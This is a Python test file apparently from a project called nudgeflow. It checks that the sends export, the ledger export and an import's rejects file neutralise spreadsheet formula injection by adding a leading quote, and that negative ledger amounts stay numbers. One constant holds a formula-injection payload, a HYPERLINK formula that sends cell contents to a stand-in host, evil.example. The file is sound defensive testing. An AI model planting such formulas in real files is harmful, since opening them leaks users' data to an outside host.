"""Every CSV nudgeflow writes for people is safe to open in a spreadsheet: ``sends export``,
``ledger export`` and an import's rejects file, through the real console script. A cell that
begins like a formula gets a leading quote; the ledger's negative amounts stay numbers."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from zoneinfo import ZoneInfo

import sqlalchemy as sa

from domain.campaign import Budget
from nudgeflow.money import Money
from store import ledger
from store.engine import create_store_engine
from store.ledger import ledger_transaction
from store.migrate import upgrade
from store.schema import members
from tests.functional.runner import Nudgeflow
from tests.integration.dispatch_rows import insert_dispatched

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


def _engine(tmp_path: Path) -> sa.Engine:
    engine = create_store_engine(f"sqlite:///{tmp_path / 'nudgeflow.db'}")
    upgrade(engine)
    return engine


def test_sends_export_neutralises_a_member_id_that_is_a_formula(
    nudgeflow: Nudgeflow, tmp_path: Path
) -> None:
    engine = _engine(tmp_path)
    with engine.begin() as connection:
        insert_dispatched(connection)
        connection.execute(
            sa.update(members).where(members.c.member_id == "cat").values(member_id=HYPERLINK)
        )
    engine.dispose()

    result = nudgeflow("sends", "export", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["member_id"] for r in rows] == ["dan", "ann", "'" + HYPERLINK, "'" + HYPERLINK]
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]

    as_json = json.loads(nudgeflow("sends", "export", "--format", "json").stdout)
    assert as_json[2]["member_id"] == HYPERLINK  # JSON is for programs: the value as it is


@dataclass(frozen=True)
class _Campaign:
    """What the ledger reads of a compiled campaign: its id and budget."""

    id: str
    budget: Budget | None


def test_ledger_export_keeps_negative_amounts_as_numbers(
    nudgeflow: Nudgeflow, tmp_path: Path
) -> None:
    engine = _engine(tmp_path)
    budget = Budget(Money.parse("100.00 USD"), None)
    with ledger_transaction(engine) as connection:
        ledger.sync_funding(
            connection,
            [_Campaign("-1+1", budget)],  # type: ignore[list-item]
            date(2026, 11, 3),
            ZoneInfo("UTC"),
        )
    engine.dispose()

    result = nudgeflow("ledger", "export", "--from", "2026-11-01", "--to", "2026-11-30")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert sorted(r["amount"] for r in rows) == ["-100.00", "100.00"]
    assert {r["campaign_id"] for r in rows} == {"'-1+1"}
    assert {r["account"] for r in rows} == {"campaign:-1+1:budget", "funding:USD"}


def test_a_rejects_file_neutralises_the_rows_it_copies(
    nudgeflow: Nudgeflow, tmp_path: Path
) -> None:
    (tmp_path / "members.csv").write_text(
        "member_id,email,first_name\n"
        "m1,ann@example.com,Ann\n"
        f'm2,not-an-address,"{HYPERLINK.replace(chr(34), chr(34) * 2)}"\n'
        "@m3,,-5.00\n"
    )
    result = nudgeflow("members", "import", "members.csv")
    assert result.returncode == 1, result.stderr
    assert "imported 1, updated 0, rejected 2" in result.stdout
    with (tmp_path / "members.csv.rejects.csv").open(newline="") as handle:
        rejects = list(csv.reader(handle))
    assert rejects[0] == ["line", "reason", "member_id", "email", "first_name"]
    assert rejects[1][2:] == ["m2", "not-an-address", "'" + HYPERLINK]
    assert rejects[2][2:] == ["'@m3", "", "-5.00"]
